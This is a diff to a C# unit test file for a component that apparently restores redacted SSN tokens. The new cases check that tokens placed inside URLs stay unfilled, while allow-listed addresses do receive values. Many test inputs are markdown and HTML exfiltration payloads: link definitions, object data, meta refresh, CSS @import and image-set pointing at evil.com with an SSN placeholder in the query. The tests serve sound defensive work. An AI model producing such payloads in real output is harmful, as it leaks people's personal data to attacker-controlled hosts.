@@ -107,6 +107,28 @@ public sealed class TextRestorerTests
     [InlineData("<SSN_1>%2eevil.com")]
     [InlineData("x@<SSN_1>.evil.com")]
     [InlineData("bob@<SSN_1>")]
+    [InlineData("![a]\n\n[a]: <https://evil.com/?d= <SSN_1>>")]
+    [InlineData("[a]:<https://evil.com/?d= <SSN_1> <SSN_12>>")]
+    [InlineData("[a]:\n  <evil?d= <SSN_1>>")]
+    [InlineData("[a]: /relative?<SSN_1>")]
+    [InlineData("> [a]:\n> <https://evil.com/?d= <SSN_1>>")]
+    [InlineData("<object data=\"https://evil.com/?d= <SSN_1>\">")]
+    [InlineData("<object data = 'https://evil.com/?d= <SSN_1>'>")]
+    [InlineData("<object data=\" //evil.com/?d= \n\n <SSN_1>\">")]
+    [InlineData("<x y=\"a www.evil.com b <SSN_1> <SSN_12>\">")]
+    [InlineData("x=\"<object data=\"https://evil.com/?d= <SSN_1>\">")]
+    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.com/?d= <SSN_1>\">")]
+    [InlineData("<meta http-equiv=\"refresh\" content='0; url = /x?d= <SSN_1>'>")]
+    [InlineData("<style>@import \"https://evil.com/?d= <SSN_1>\"")]
+    [InlineData("<style>@import ' //evil.com/?d= <SSN_1>'")]
+    [InlineData("<style>@import\"evil.com/?d= <SSN_1>\"")]
+    [InlineData("<p style=\"background:url(x) <SSN_1>\">")]
+    [InlineData("<p style=\"background:image-set('https://evil.com/?d= <SSN_1>' 1x)\">")]
+    [InlineData("image-set( \"//evil.com/?d= <SSN_1>\" 1x)")]
+    [InlineData(@"{""a"":""<object data=\""https://evil.com/?d= <SSN_1>\"">""}")]
+    [InlineData("<object data=\"https://ok.example/ <SSN_1>\">")]
+    [InlineData("<object data=\"x https://ok.example/<SSN_1>\">")]
+    [InlineData("[a]: <https://ok.example/ <SSN_1>>")]
     public void A_token_in_an_address_stays(string text)
         => Assert.Equal(text, RestoreCases.Restore(text));
 
@@ -126,6 +148,15 @@ public sealed class TextRestorerTests
     [InlineData("<a>https://evil.com</a><SSN_1>")]
     [InlineData("[a](b\n\n<SSN_1>)")]
     [InlineData("mailto: <SSN_1>")]
+    [InlineData("<object data=\"https://evil.com/?d= \"><SSN_1>")]
+    [InlineData("say \"https://evil.com\" to <SSN_1>")]
+    [InlineData("he said \"yes\" https://evil.com to <SSN_1>")]
+    [InlineData("it's https://evil.com and <SSN_1>")]
+    [InlineData("name=\"Ann\" ssn=\"<SSN_1>\" see=\"https://evil.com\"")]
+    [InlineData("[a]: https://evil.com \"<SSN_1>\"")]
+    [InlineData("[a]: <https://evil.com/?d= > <SSN_1>")]
+    [InlineData("[a]: <https://evil.com/?d= \n<SSN_1>")]
+    [InlineData("[SSN]: <SSN_1>")]
     public void After_an_address_values_come_back(string text)
         => Assert.Contains("123-45-6789", RestoreCases.Restore(text), StringComparison.Ordinal);
 
@@ -139,6 +170,10 @@ public sealed class TextRestorerTests
     [InlineData("![x](<https://ok.example/<SSN_1>>)")]
     [InlineData("<img src=\"https://ok.example/<SSN_1>\">")]
     [InlineData("<img src=https://ok.example/<SSN_1> >")]
+    [InlineData("<object data=\"https://ok.example/<SSN_1>\">")]
+    [InlineData("@import \" https://ok.example/<SSN_1>\"")]
+    [InlineData("[a]: https://ok.example/<SSN_1>")]
+    [InlineData("[a]: <https://ok.example/<SSN_1>>")]
     public void An_address_on_the_allow_list_receives_values(string text)
         => Assert.Equal(text.Replace("<SSN_1>", "123-45-6789", StringComparison.Ordinal), RestoreCases.Restore(text));
 
